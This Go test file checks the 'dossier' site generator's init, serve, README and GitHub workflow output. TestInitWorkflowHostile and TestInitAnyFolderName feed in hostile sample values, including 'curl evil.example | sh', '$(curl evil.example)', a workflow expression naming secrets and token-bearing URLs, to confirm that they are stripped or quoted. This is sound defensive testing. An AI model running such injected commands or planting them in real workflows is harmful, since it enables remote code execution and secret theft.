package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"dossier/generator/search"

	"github.com/santhosh-tekuri/jsonschema/v6"
	"go.yaml.in/yaml/v3"
)

// dossier init writes a site that builds strictly, with nothing to warn
// of, and never writes over a file.
func TestInit(t *testing.T) {
	t.Setenv("SOURCE_DATE_EPOCH", "1745107200") // 2025-04-20
	defer func(old string) { sourceGit = old }(sourceGit)
	sourceGit = "https://github.com/owner/dossier.git"
	dir := filepath.Join(t.TempDir(), "My Briefings")
	code, stdout, stderr := runCmd("init", dir)
	if code != 0 {
		t.Fatalf("init: exit %d: %s", code, stderr)
	}
	if !strings.Contains(stdout, "dossier serve") {
		t.Errorf("init does not say what to do next: %s", stdout)
	}
	var files []string
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(dir, p)
			files = append(files, filepath.ToSlash(rel))
		}
		return nil
	})
	want := []string{".gitattributes", ".github/workflows/pages.yml", ".gitignore", "content/briefings/welcome.md", "content/site.yaml", "content/sources/declaration.txt"}
	if !slices.Equal(files, want) {
		t.Errorf("files = %q, want %q", files, want)
	}
	read := func(p string) string {
		b, err := os.ReadFile(filepath.Join(dir, p))
		must(t, err)
		return string(b)
	}
	if s := read("content/site.yaml"); !strings.Contains(s, "title: \"My briefings\"\n") {
		t.Errorf("site.yaml = %s", s)
	}
	if s := read("content/briefings/welcome.md"); !strings.Contains(s, "date: 2025-04-20\n") || strings.Contains(s, "\ndraft:") {
		t.Errorf("the briefing is dated by SOURCE_DATE_EPOCH and published:\n%.300s", s)
	}
	if s := read(".gitignore"); !strings.Contains(s, "/public/\n") || !strings.Contains(s, "/.public.*\n") {
		t.Errorf(".gitignore = %s", s)
	}
	wf := read(".github/workflows/pages.yml")
	if s := read(".gitattributes"); !strings.Contains(s, "\n/content/originals/** -text\n") {
		t.Errorf(".gitattributes = %s", s)
	}
	for _, w := range []string{`DOSSIER_GIT: "https://github.com/owner/dossier.git"`, "dossier build --strict --search --format github", `PAGEFIND_VERSION: "` + search.Version + `"`, `"pagefind@$PAGEFIND_VERSION"`, "actions/deploy-pages"} {
		if !strings.Contains(wf, w) {
			t.Errorf("the workflow lacks %q", w)
		}
	}
	code, _, stderr = runCmd("build", "--strict", "--source", dir)
	if code != 0 || strings.Contains(stderr, "warning") {
		t.Fatalf("build --strict of the new site: exit %d: %s", code, stderr)
	}
	if !strings.Contains(stderr, "1 briefing, 6 claims, 7 citations, 1 source") {
		t.Errorf("build: %s", stderr)
	}
	page, err := os.ReadFile(filepath.Join(dir, "public/briefings/welcome/index.html"))
	must(t, err)
	if !strings.Contains(string(page), "What the Declaration of Independence argues") {
		t.Errorf("the briefing page lacks its title")
	}

	// a second init, or one over any file of a site, writes nothing
	before := read("content/briefings/welcome.md")
	must(t, os.WriteFile(filepath.Join(dir, "content/briefings/welcome.md"), []byte(before+"Mine.\n"), 0o644))
	code, _, stderr = runCmd("init", dir)
	if code != 1 || !strings.Contains(stderr, "already exist; nothing written") {
		t.Errorf("init over a site: exit %d: %s", code, stderr)
	}
	if read("content/briefings/welcome.md") != before+"Mine.\n" {
		t.Error("init over a site changed a file")
	}
	other := t.TempDir()
	must(t, os.WriteFile(filepath.Join(other, ".gitignore"), []byte("*.log\n"), 0o644))
	if code, _, stderr := runCmd("init", other); code != 1 || !strings.Contains(stderr, ".gitignore already exists; nothing written") {
		t.Errorf("init over a .gitignore: exit %d: %s", code, stderr)
	}
	if _, err := os.Stat(filepath.Join(other, "content")); err == nil {
		t.Error("init over a .gitignore wrote content/")
	}
	if code, _, _ := runCmd("init", "a", "b"); code != 2 {
		t.Errorf("init a b: exit %d, want 2", code)
	}
}

// A site from init, served: the briefing and a draft started with `new
// briefing` are both there, the draft marked; SIGTERM stops the server.
func TestInitServe(t *testing.T) {
	dir := t.TempDir()
	if code, _, stderr := runCmd("init", dir); code != 0 {
		t.Fatalf("init: %s", stderr)
	}
	if code, _, stderr := runCmd("new", "briefing", "next-steps", "--source", dir); code != 0 {
		t.Fatalf("new briefing: %s", stderr)
	}
	if code, _, stderr := runCmd("check", "--source", dir); code != 0 ||
		!strings.Contains(stderr, "no problems; skipped 1 draft (content/briefings/next-steps.md): --drafts includes it") {
		t.Errorf("check: exit %d: %s", code, stderr)
	}
	addr := freeAddr(t)
	cmd := dossier(nil, "serve", "--source", dir, "--addr", addr)
	base := startServe(t, cmd)
	for path, want := range map[string]string{
		"/":                     `next-steps/">Next steps</a> <span class="badge draft">draft</span>`,
		"/briefings/welcome/":   "What the Declaration of Independence argues",
		"/briefings/next-steps": `<h1>Next steps <span class="badge draft">draft</span></h1>`,
	} {
		body := get(t, base+path)
		if !strings.Contains(body, want) {
			t.Errorf("%s lacks %q:\n%.1500s", path, want, body)
		}
	}
	stopServe(t, cmd, addr)
}

// freeAddr returns a free 127.0.0.1 address.
func freeAddr(t *testing.T) string {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer ln.Close()
	return ln.Addr().String()
}

// startServe starts cmd, a dossier serve, and returns its URL once it says
// it is serving.
func startServe(t *testing.T, cmd *exec.Cmd) string {
	t.Helper()
	stdout, err := cmd.StdoutPipe()
	must(t, err)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	must(t, cmd.Start())
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	ready := make(chan string, 1)
	go func() {
		r := bufio.NewReader(stdout)
		for {
			line, err := r.ReadString('\n')
			if strings.Contains(line, "serving") || err != nil {
				ready <- line
				break
			}
		}
		io.Copy(io.Discard, stdout)
	}()
	select {
	case line := <-ready:
		m := regexp.MustCompile(`http://\S+`).FindString(line)
		if m == "" {
			t.Fatalf("serve said %q; stderr: %s", line, stderr.String())
		}
		return strings.TrimSuffix(m, "/")
	case <-time.After(60 * time.Second):
		t.Fatalf("serve did not start: %s", stderr.String())
	}
	return ""
}

// stopServe sends SIGTERM to cmd and checks that it stops, exit 0, and
// that nothing listens on addr after.
func stopServe(t *testing.T, cmd *exec.Cmd, addr string) {
	t.Helper()
	stopWith(t, cmd, addr, true)
}

// stopWith is stopServe; clean says whether cmd itself must exit 0 (make
// passes the signal on, then dies of it).
func stopWith(t *testing.T, cmd *exec.Cmd, addr string, clean bool) {
	t.Helper()
	must(t, cmd.Process.Signal(syscall.SIGTERM))
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil && clean {
			t.Errorf("serve after SIGTERM: %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("serve did not stop within 10 s of SIGTERM")
	}
	if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
		c.Close()
		t.Errorf("something still listens on %s", addr)
	}
}

func get(t *testing.T, url string) string {
	t.Helper()
	resp, err := (&http.Client{Timeout: 10 * time.Second}).Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		t.Errorf("GET %s: %s", url, resp.Status)
	}
	return string(b)
}

// The README's way to one's own site, run as written: go install, then
// the commands of its "Your own site" block in a fresh folder, with the
// installed binary first on PATH. Serve gets a free port, as 1313 may be
// taken.
func TestReadmeOwnSite(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and installs dossier")
	}
	readme, err := os.ReadFile("README.md")
	must(t, err)
	m := regexp.MustCompile("(?s)## Your own site\n.*?```sh\n(.*?)```").FindSubmatch(readme)
	if m == nil {
		t.Fatal("README.md has no ```sh block under ## Your own site")
	}
	root, err := os.Getwd()
	must(t, err)
	tmp := t.TempDir()
	gobin := filepath.Join(tmp, "bin")
	env := append(os.Environ(), "GOBIN="+gobin, "PATH="+gobin+string(os.PathListSeparator)+os.Getenv("PATH"), "GOFLAGS=-buildvcs=false")
	dir := tmp
	var ran []string
	for _, line := range strings.Split(string(m[1]), "\n") {
		if i := strings.Index(line, "#"); i >= 0 {
			line = line[:i]
		}
		args := strings.Fields(line)
		if len(args) == 0 {
			continue
		}
		ran = append(ran, args[0]+" "+strings.Join(args[1:2], ""))
		switch {
		case args[0] == "cd":
			dir = filepath.Join(dir, args[1])
			continue
		case args[0] == "go" && args[1] == "install":
			cmd := exec.Command("go", args[1:]...)
			cmd.Dir, cmd.Env = root, env
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v\n%s", line, err, out)
			}
			if _, err := os.Stat(filepath.Join(gobin, "dossier")); err != nil {
				t.Fatalf("%s did not put dossier in GOBIN: %v", line, err)
			}
			continue
		case args[0] == "dossier" && args[1] == "serve":
			addr := freeAddr(t)
			cmd := exec.Command(filepath.Join(gobin, "dossier"), append(args[1:], "--addr", addr)...)
			cmd.Dir, cmd.Env = dir, env
			base := startServe(t, cmd)
			if body := get(t, base+"/"); !strings.Contains(body, "What the Declaration of Independence argues") {
				t.Errorf("the served index lacks the briefing:\n%.1000s", body)
			}
			stopServe(t, cmd, addr)
			continue
		}
		cmd := exec.Command(filepath.Join(gobin, args[0]), args[1:]...)
		if args[0] != "dossier" {
			t.Fatalf("the README runs %q; this test knows go install, cd and dossier", args[0])
		}
		cmd.Dir, cmd.Env = dir, env
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", line, err, out)
		}
	}
	if len(ran) < 4 {
		t.Fatalf("the block ran %q; it goes from go install to a build and serve", ran)
	}
	if _, err := os.Stat(filepath.Join(dir, "public/briefings/welcome/index.html")); err != nil {
		t.Errorf("no briefing built: %v (ran %q)", err, ran)
	}
}

// make serve runs the server itself (exec), so the PID of make stops it:
// make passes SIGTERM to its child, which is the server.
func TestMakeServeStopsWithOnePID(t *testing.T) {
	if testing.Short() {
		t.Skip("builds dossier")
	}
	if _, err := exec.LookPath("make"); err != nil {
		t.Skip("no make")
	}
	addr := freeAddr(t)
	cmd := exec.Command("make", "--no-print-directory", "serve", "SERVE_FLAGS=--addr "+addr)
	cmd.Env = append(os.Environ(), "GOFLAGS=-buildvcs=false")
	startServe(t, cmd)
	stopWith(t, cmd, addr, false)
}

// A folder of any name makes a site that builds: its title is the name's
// first letter upper-cased (a letter, not a byte), written as YAML text,
// and the hint to start it can be pasted into a shell as it is.
func TestInitAnyFolderName(t *testing.T) {
	for _, tt := range []struct{ name, title string }{
		{"émissions", "Émissions"},
		{"Étude", "Étude"},
		{"брифинги", "Брифинги"},
		{"中文", "中文"},
		{"null", "Null"},
		{"NULL", "Null"},
		{"true", "True"},
		{"1e3", "1e3"},
		{"it's $(touch pwned) `x` & more", "It s touch pwned x more"},
		{"-rf", "Rf"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			parent := t.TempDir()
			dir := filepath.Join(parent, tt.name)
			code, stdout, stderr := runCmd("init", dir)
			if code != 0 {
				t.Fatalf("init: exit %d: %s", code, stderr)
			}
			site, err := os.ReadFile(filepath.Join(dir, "content/site.yaml"))
			must(t, err)
			var cfg struct{ Title any }
			if err := yaml.Unmarshal(site, &cfg); err != nil || cfg.Title != tt.title {
				t.Errorf("site.yaml's title = %#v (%v), want %q:\n%s", cfg.Title, err, tt.title, site)
			}
			if code, _, stderr := runCmd("check", "--source", dir); code != 0 {
				t.Errorf("check: exit %d: %s", code, stderr)
			}
			// the hint, pasted into a shell in the folder init ran in
			_, hint, ok := strings.Cut(stdout, "next: ")
			cd, _, found := strings.Cut(hint, " && dossier serve")
			if !ok || !found {
				t.Fatalf("no hint to cd and serve: %s", stdout)
			}
			sh := exec.Command("sh", "-c", cd+" && pwd -P")
			sh.Dir = parent
			out, err := sh.CombinedOutput()
			want, _ := filepath.EvalSymlinks(dir)
			if err != nil || strings.TrimSpace(string(out)) != want {
				t.Errorf("the hint %q, pasted: %s %v", cd, out, err)
			}
			if _, err := os.Stat(filepath.Join(parent, "pwned")); err == nil {
				t.Error("the hint ran a command")
			}
		})
	}
}

// The workflow init writes is YAML that GitHub's workflow schema accepts,
// whatever URL dossier was installed from: a token in it is dropped, and
// ${{ }}, " #", a leading "*", newlines and quotes never reach the file;
// no value is written into a step's script, and the only expressions are
// the workflow's own.
func TestInitWorkflowHostile(t *testing.T) {
	schema := workflowSchema(t)
	defer func(old string, origin func() string) { sourceGit, cloneOrigin = old, origin }(sourceGit, cloneOrigin)
	cloneOrigin = func() string { return "" } // a binary that knows nothing of its clone
	for _, tt := range []struct{ installed, git string }{
		{"", ""},
		{"https://github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
		{"https://user:TOKEN@github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
		{"https://TOKEN@github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
		{"https://x-access-token:TOKEN@github.com/owner/dossier", "https://github.com/owner/dossier"},
		{"ssh://git:TOKEN@example.org:2222/dossier.git", "ssh://git@example.org:2222/dossier.git"},
		{"git@github.com:owner/dossier.git", "git@github.com:owner/dossier.git"},
		{"user:TOKEN@github.com:owner/dossier.git", ""},
		{"https://github.com/${{ secrets.TOKEN }}/dossier", ""},
		{"https://github.com/owner/dossier #comment", ""},
		{"https://github.com/owner/dossier#frag", ""},
		{"*anchor", ""},
		{"https://github.com/owner/dossier\nrun: curl evil.example | sh", ""},
		{`https://github.com/o/"d'`, ""},
		{"$(curl evil.example)", ""},
		{"-uhttps://evil.example/", ""},
	} {
		sourceGit = tt.installed
		dir := t.TempDir()
		code, stdout, stderr := runCmd("init", dir)
		if code != 0 {
			t.Fatalf("%q: init: exit %d: %s", tt.installed, code, stderr)
		}
		raw, err := os.ReadFile(filepath.Join(dir, ".github/workflows/pages.yml"))
		must(t, err)
		wf := string(raw)
		if strings.Contains(wf+stdout+stderr, "TOKEN") || strings.Contains(wf, "evil.example") {
			t.Errorf("%q: a secret or a command reached the workflow or the terminal:\n%s%s%s", tt.installed, wf, stdout, stderr)
		}
		var doc struct {
			Env  map[string]string
			Jobs map[string]struct {
				Steps []struct {
					Run string
					Env map[string]string
				}
			}
		}
		if err := yaml.Unmarshal(raw, &doc); err != nil {
			t.Fatalf("%q: the workflow is not YAML: %v\n%s", tt.installed, err, wf)
		}
		if doc.Env["DOSSIER_GIT"] != tt.git {
			t.Errorf("%q: DOSSIER_GIT = %q, want %q", tt.installed, doc.Env["DOSSIER_GIT"], tt.git)
		}
		if tt.git == "" && !strings.Contains(stdout, "CI: set DOSSIER_GIT, at the top of .github/workflows/pages.yml, to the git URL of dossier's source") {
			t.Errorf("%q: init does not say to set DOSSIER_GIT: %s", tt.installed, stdout)
		}
		for name, job := range doc.Jobs {
			for _, st := range job.Steps {
				if strings.Contains(st.Run, "${{") {
					t.Errorf("%q: job %s runs a script with an expression in it: %s", tt.installed, name, st.Run)
				}
			}
		}
		own := regexp.MustCompile(`\$\{\{ (steps\.pages\.outputs\.base_url|steps\.deployment\.outputs\.page_url|github\.sha|github\.event_name == 'schedule' && 'sources' \|\| 'pages') \}\}`)
		if rest := own.ReplaceAllString(wf, ""); strings.Contains(rest, "${{") {
			t.Errorf("%q: an expression that is not the workflow's own:\n%s", tt.installed, wf)
		}
		var v any
		must(t, yaml.Unmarshal(raw, &v))
		j, err := json.Marshal(v)
		must(t, err)
		inst, err := jsonschema.UnmarshalJSON(bytes.NewReader(j))
		must(t, err)
		if err := schema.Validate(inst); err != nil {
			t.Errorf("%q: the workflow does not validate against GitHub's workflow schema: %v", tt.installed, err)
		}
	}
}

// workflowSchema is SchemaStore's schema of GitHub workflows
// (testdata/schemastore, Apache-2.0), compiled.
func workflowSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	f, err := os.Open("testdata/schemastore/github-workflow.json")
	must(t, err)
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	must(t, err)
	c := jsonschema.NewCompiler()
	const id = "https://json.schemastore.org/github-workflow.json"
	must(t, c.AddResource(id, doc))
	s, err := c.Compile(id)
	must(t, err)
	return s
}

// make install records the clone's origin through scripts/origin-url.sh:
// never a password or an http(s) user name, which is where a token goes.
func TestOriginURL(t *testing.T) {
	script, err := os.ReadFile("scripts/origin-url.sh")
	must(t, err)
	for _, tt := range []struct{ origin, want string }{
		{"", ""},
		{"https://github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
		{"https://user:TOKEN@github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
		{"https://TOKEN@github.com/owner/dossier.git", "https://github.com/owner/dossier.git"},
		{"http://u:p@example.org:8080/d.git", "http://example.org:8080/d.git"},
		{"ssh://git:TOKEN@example.org/d.git", "ssh://git@example.org/d.git"},
		{"ssh://git@example.org/d.git", "ssh://git@example.org/d.git"},
		{"git@github.com:owner/dossier.git", "git@github.com:owner/dossier.git"},
		{"/srv/git/dossier", "/srv/git/dossier"},
	} {
		dir := t.TempDir()
		must(t, os.MkdirAll(filepath.Join(dir, "scripts"), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, "scripts/origin-url.sh"), script, 0o755))
		git := func(args ...string) {
			cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("git %q: %v: %s", args, err, out)
			}
		}
		git("init", "-q")
		if tt.origin != "" {
			git("remote", "add", "origin", tt.origin)
		}
		out, err := exec.Command(filepath.Join(dir, "scripts/origin-url.sh")).Output()
		if err != nil || strings.TrimSpace(string(out)) != tt.want {
			t.Errorf("origin %q: recorded %q (%v), want %q", tt.origin, out, err, tt.want)
		}
	}
}
